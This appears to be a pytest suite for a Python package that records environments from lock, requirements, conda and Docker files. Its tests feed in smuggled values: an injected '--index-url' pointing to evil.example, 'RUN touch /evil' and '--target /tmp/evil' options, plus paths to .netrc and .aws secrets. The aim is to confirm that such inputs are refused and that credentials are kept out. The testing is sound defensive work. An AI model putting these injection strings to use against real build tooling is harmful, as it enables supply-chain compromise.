"""Files that describe an environment and want more than that: lines, options, places and secrets that nobody meant."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

import renex_jupyter as rx
from renex_jupyter.capture.described import LARGEST, SMALL
from renex_jupyter.errors import RenexError
from renex_jupyter.records.environments import Environment
from renex_jupyter.session.current import current


def lines(made: Environment) -> list[str]:
    return made.requirements.splitlines()


EVIL = "\n--index-url https://evil.example/simple"
INJECTED = {
    "a version": ("poetry.lock", f'[[package]]\nname = "click"\nversion = "1.0{EVIL}"\n'),
    "a name": ("poetry.lock", f'[[package]]\nname = "click{EVIL} #"\nversion = "1.0"\n'),
    "a marker": (
        "pdm.lock",
        f'[[package]]\nname = "click"\nversion = "1.0"\nmarker = "python_version > \'3\'{EVIL}"\n',
    ),
    "an origin": (
        "pylock.toml",
        f'[[packages]]\nname = "click"\narchive = {{ url = "https://host.example/c.zip{EVIL}" }}\n',
    ),
    "a folder's version": (
        "pylock.toml",
        f'[[packages]]\nname = "a"\nversion = "1{EVIL}"\ndirectory = {{path = "a"}}\n',
    ),
    "a mark of Unicode": ("poetry.lock", '[[package]]\nname = "click"\nversion = "1.0\\u2028--pre"\n'),
    "a package of conda": ("conda-lock.yml", f"package: [{{name: numpy, version: {json.dumps('1.0' + EVIL)}}}]\n"),
    "a constraint": ("conda-lock.yml", "package: [{name: 'constraint: --pre', version: '1.0'}]\n"),
    "a line for pip": ("environment.yml", f"dependencies: [{{pip: [{json.dumps('--pre' + EVIL)}]}}]\n"),
    "a Python": ("Pipfile.lock", json.dumps({"_meta": {"requires": {"python_version": "3.11\nRUN touch /evil"}}})),
}


@pytest.mark.parametrize("what", INJECTED)
def test_no_line_gets_in_through_a_lock_file(project: Path, what: str) -> None:
    name, text = INJECTED[what]
    text = text.replace(EVIL, EVIL.replace("\n", "\\n")) if name.endswith((".lock", ".toml")) else text
    (project / name).write_text(text if name != "Pipfile.lock" else INJECTED[what][1])
    with pytest.raises(RenexError) as caught:
        rx.create_environment(project / name)
    assert caught.value.code == "invalid_argument"
    assert rx.list_environments()["name"].count() == 0


@pytest.mark.parametrize("python", ["nonsense", "3.11\nRUN touch /evil", "3.11.2.1", "3.x", " 3.11"])
def test_a_python_is_a_version(project: Path, python: str) -> None:
    (project / "requirements.txt").write_text("six\n")
    with pytest.raises(RenexError, match="is no version of Python"):
        rx.create_environment(project, python=python)


@pytest.mark.parametrize("version", ["1.0 --no-binary :all:", "1.0 ; python_version > '3'", "one", "1.0 @ x"])
def test_what_is_no_version_is_not_told_to_pip(project: Path, version: str) -> None:
    (project / "poetry.lock").write_text(f'[[package]]\nname = "click"\nversion = "{version}"\n')
    assert lines(rx.create_environment(project))[1:] == [f"# click=={version} is no requirement that pip reads"]


def test_a_name_of_a_file_is_one_line(project: Path) -> None:
    (project / "requirements\n--pre\n.txt").write_text("six\n")
    assert lines(rx.create_environment(project)) == ["# read from requirements --pre .txt", "six"]


@pytest.mark.parametrize(
    "line",
    [
        "--target /tmp/evil",
        "--target=/tmp/evil",
        "-t /tmp/evil",
        "--pre --target /tmp/evil",
        "--index-url https://host.example --target /tmp/evil",
        "--find-links wheels --prefix=/tmp/evil",
        "--global-option x",
        "--user",
        "--no-index /tmp/evil",
        "--index-url",
        "--proxy http://evil.example",
        "--cache-dir /tmp/evil",
        "--",
        "-",
        "six==1.0 --hash=sha256:aa --target /tmp/evil",
        "six==1.0 --hash=sha256:aa -t /tmp/evil",
    ],
)
@pytest.mark.parametrize("way", ["itself", "included", "as a constraint"])
def test_an_option_that_does_more_than_name_a_source_is_refused(project: Path, line: str, way: str) -> None:
    (project / "more.txt").write_text(f"{line}\n")
    (project / "requirements.txt").write_text(f"-{'r' if way == 'included' else 'c'} more.txt\n")
    with pytest.raises(RenexError) as caught:
        rx.create_environment(project / ("more.txt" if way == "itself" else "requirements.txt"))
    assert caught.value.code == "invalid_argument"


def test_options_that_name_a_source_are_kept(project: Path) -> None:
    given = [
        "--index-url https://host.example/simple",
        "--extra-index-url https://other.example/simple",
        "--find-links https://host.example/wheels",
        "--no-index",
        "--pre",
        "--prefer-binary",
        "--no-binary six",
        "--only-binary :all:",
        "--require-hashes",
        "--trusted-host host.example",
    ]
    (project / "requirements.txt").write_text(
        "\n".join([*given, "-i https://short.example", "-fwheels", "--no-binary=a,b"])
    )
    more = ["--index-url https://short.example", f"--find-links {project / 'wheels'}", "--no-binary a,b"]
    assert lines(rx.create_environment(project))[1:] == [*given, *more]


def stored(project: Path) -> bytes:
    """Return all that the store holds, as bytes: blobs unpacked, and the journal."""
    files = [each for each in (project / ".renex").rglob("*") if each.is_file()]
    sums = {told[0] for each in files if (told := re.search(r"[0-9a-f]{64}", each.name))}
    return b"".join([*map(current().store.blobs.get, sorted(sums)), *(each.read_bytes() for each in files)])


@pytest.mark.parametrize("way", ["folder", "file"])
def test_no_credential_of_a_file_enters_the_store(project: Path, way: str) -> None:
    secret = "hunter2-" + "zq9x"
    (project / "requirements.txt").write_text(
        f"--index-url https://ada:{secret}@host.example/simple\nsix @ https://ada:{secret}@host.example/six-1.0.zip\n"
    )
    (project / "requirements-dev.txt").write_text(f"--index-url https://ada:{secret}@host.example/simple\n")
    (project / "environment.yml").write_text(f"dependencies: [six]\nvariables:\n  API_TOKEN: {secret}\n")
    (project / "Dockerfile").write_text(
        f'FROM python:3.12\nENV API_TOKEN={secret} MODE=fast\nENV DB_PASSWORD "{secret}"\nARG GITHUB_TOKEN\n'
        f"ENV KEPT=$GITHUB_TOKEN API_KEY=${{GITHUB_TOKEN}}\nRUN SECRET_KEY='{secret}' make\n"
    )
    for each in (
        [project] if way == "folder" else [*project.glob("*.txt"), *project.glob("*.yml"), project / "Dockerfile"]
    ):
        rx.create_environment(each)
    assert secret not in (rx.get_environment().dockerfile or "")
    assert secret.encode() not in stored(project)
    assert b"--index-url" in stored(project) and b"API_TOKEN" in stored(project)
    text = rx.create_environment(project).dockerfile or ""
    assert "MODE=fast" in text and "API_KEY=${GITHUB_TOKEN}" in text and "ARG GITHUB_TOKEN\n" in text


@pytest.mark.parametrize("option", ["-c", "-r"])
@pytest.mark.parametrize("name", ["../home/.netrc", ".netrc", "link.txt", "../home/list.txt", ".aws/list.txt"])
def test_a_file_from_outside_or_one_of_secrets_is_not_included(project: Path, option: str, name: str) -> None:
    home = project.parent / f"{project.name}-home"
    for folder in (home, project / ".aws"):
        folder.mkdir()
        (folder / "list.txt").write_text("six\n")
    for each in (home / ".netrc", project / ".netrc"):
        each.write_text("machine host.example login ada password hunter2-zq9x\n")
    (project / "link.txt").symlink_to(home / "list.txt")
    (project / "requirements.txt").write_text(f"{option} {name.replace('home', home.name)}\n")
    with pytest.raises(RenexError) as caught:
        rx.create_environment(project)
    assert caught.value.code in ("unsafe_path", "invalid_argument")
    assert "hunter2" not in str(caught.value) and b"hunter2" not in stored(project)


def test_an_include_may_lie_elsewhere_in_the_project(project: Path) -> None:
    (project / "requirements").mkdir()
    (project / "limits.txt").write_text("six<2\n")
    (project / "requirements/dev.txt").write_text("-c ../limits.txt\nsix\n")
    assert lines(rx.create_environment("requirements/dev.txt"))[1:] == ["# constraint: six<2", "six"]


def test_a_constraint_is_a_requirement(project: Path) -> None:
    (project / "limits.txt").write_text("what is this?\n")
    (project / "requirements.txt").write_text("-c limits.txt\n")
    with pytest.raises(RenexError, match="is no requirement that pip reads"):
        rx.create_environment(project)


def test_a_file_of_secrets_is_not_read(project: Path) -> None:
    (project / ".netrc").write_text("six\n")
    (project / "requirements.txt").symlink_to(project / ".netrc")
    for each in (project, project / ".netrc"):
        with pytest.raises(RenexError, match="keeps secrets"):
            rx.create_environment(each)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes with a name are of POSIX")
@pytest.mark.timeout(60)
@pytest.mark.parametrize("what", ["pipe", "device", "folder"])
@pytest.mark.parametrize("way", ["included", "itself", "a Dockerfile", "beside"])
def test_what_is_no_file_is_not_waited_for(project: Path, what: str, way: str) -> None:
    place = {"included": "more.txt", "itself": "more.txt", "a Dockerfile": "my.dockerfile", "beside": ".python-version"}
    path = project / place[way]
    if what == "pipe":
        os.mkfifo(path)
    elif what == "device":
        path.symlink_to("/dev/zero")
    else:
        path.mkdir()
    (project / "requirements.txt").write_text("-r more.txt\n" if way == "included" else "six\n")
    if way == "beside":
        assert lines(rx.create_environment(project))[1:] == ["six"]
        return
    with pytest.raises(RenexError) as caught:
        rx.create_environment(project / "requirements.txt" if way == "included" else path)
    assert caught.value.code in ("invalid_argument", "unsafe_path")


def test_a_file_beyond_all_measure_is_not_read(project: Path) -> None:
    for name, size in (("more.txt", LARGEST), ("Dockerfile", SMALL)):
        with (project / name).open("wb") as file:
            file.truncate(size + 1)
    (project / "requirements.txt").write_text("-r more.txt\n")
    for each in ("requirements.txt", "more.txt", "Dockerfile"):
        with pytest.raises(RenexError, match="has more than"):
            rx.create_environment(project / each)


def test_a_folder_to_install_does_not_hold_up_by_its_files(project: Path) -> None:
    (project / "lib").mkdir()
    (project / "lib/pyproject.toml").symlink_to("/dev/zero")
    (project / "requirements.txt").write_text("./lib\n")
    assert lines(rx.create_environment(project))[1:] == [f"# lib==* was installed from {project / 'lib'}"]
